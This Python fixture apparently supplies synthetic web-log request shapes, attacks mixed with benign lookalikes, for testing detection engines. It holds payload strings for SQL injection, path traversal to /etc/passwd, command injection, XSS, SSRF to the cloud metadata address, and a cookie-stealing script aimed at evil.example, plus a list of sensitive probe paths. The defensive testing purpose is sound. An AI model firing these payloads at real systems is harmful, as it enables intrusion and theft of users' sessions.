"""Request shapes of the derived log, used by both engines as plain data."""

# (method, target uri, stored uri, query, status, request type, response type, bytes, agent)
# None means: take the value derived from the event row.
ATTACKS = [
    ("GET", "/rest/products/search", None, "?q='union%20select%201,2,3,4,5,6,7,8,9--'", 200, None, "application/json", None, None),
    ("GET", "/search", None, "?id=123&id=456'%20OR%20'1'='1", 200, None, None, None, None),
    ("GET", "/etc/passwd", None, "", 404, None, None, None, None),
    ("GET", "/public/%2e%2e/etc/passwd", "/etc/passwd", "", 200, None, "text/html; charset=UTF-8", 75002, None),
    ("GET", "/rest/products/search", None, "?q=123;whoami", 200, None, "application/json", None, None),
    ("GET", "/rest/products/search", None, "?q=%3Cimg%20src=x%20onerror=alert(1)%3E", 200, None, "application/json", None, None),
    ("GET", "/rest/products/search", None, "?q=%3Csvg%20onload=alert(1)%3E", 200, None, "application/json", None, None),
    ("GET", "/rest/products/search", None, "?q=javascript:alert(1)", 200, None, "application/json", None, None),
    ("GET", "/public/images/%2e%2e/%2e%2e/etc/passwd", "/etc/passwd", "", 200, None, "text/plain", None, None),
    ("GET", "/rest/products/search", None, "?q=apple", 200, None, "application/json", None, None),
    ("GET", "/config.php", None, "", 200, None, None, None, None),
    ("GET", "/index.php", None, "?route=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php", 200, None, None, None, None),
    ("GET", "/index.php", None, "?route=product%2Fsearch&search=x%27%29%29+OR+1%3D1+--", 200, None, None, None, None),
    ("GET", "/index.php", None, "?route=product%2Fsearch&search=%26%23x3C%3Bscript%26%23x3E%3Balert(1)%26%23x3C%3B%2Fscript%26%23x3E%3B", 200, None, None, None, None),
    ("GET", "/search", None, "?q=how%20to%20prevent%20xss%20cookie", 200, None, None, None, "browser"),
    ("GET", "/rest/products/search", None, "?q=%2527%2520or%25201%253D1--", 200, None, "application/json", None, None),
    ("GET", "/socket.io/", None, "?EIO=4&transport=polling", 200, None, "text/plain", None, "browser"),
    ("GET", "/assets/app.js", None, "", 200, None, "application/javascript", None, None),
    ("POST", "/rest/user/login", None, "", 200, "application/json", "application/json; charset=utf-8", 300, "auth-bypass-poc"),
    ("GET", "/rest/products/redirect", None, "?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", 302, None, None, None, None),
    ("GET", "/search", None, "?q=sql+tutorial+select+name+from+users", 200, None, None, None, "browser"),
    ("GET", "/docs/search", None, "?q=union+select+syntax+guide", 200, None, None, None, "browser"),
    ("GET", "/comment", None, "?text=%3Cscript%3Efetch('//evil.example/c?'%2Bdocument.cookie)%3C/script%3E", 200, None, None, None, None),
    ("GET", "/comment/42/reply", None, "?text=%3CScRiPt%3Elocation%3D%2Fx%2F%3C/ScRiPt%3E&text=2", 200, None, None, None, None),
    ("GET", "/download", None, "?file=..%2f..%2fetc%2fpasswd", 200, None, "text/plain", None, None),
    ("DELETE", "/api/items/0a1b2c3d4e", None, "?id=1;drop%20table%20users--", 500, None, "application/json", None, None),
    ("GET", "/tools/ping", None, "?host=127.0.0.1%7Cwhoami&cmd=%60id%60", 403, None, None, None, None),
    ("GET", "/help/search", None, "?q=how+to+use+%3Cscript+tag", 200, None, None, None, "browser"),
    ("GET", "/rest/products/search", None, "?id=1%20AND%201=1%20AND%20SLEEP(3)--&x=%2526lt%253B", 200, None, "application/json", None, None),
]

PROBES = [
    "/admin/", "/admin/index.php", "/config.php", "/admin/config.php", "/backup.zip",
    "/backup.sql", "/phpmyadmin", "/vendor/", "/storage/", "/.git/config", "/server-status",
    "/.well-known/security.txt",
]

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
KNOWN_ASSETS = ["10.1.0.1", "10.1.0.4"]
START_MS = 1_775_055_600_000  # 2026-04-01 15:00:00 UTC
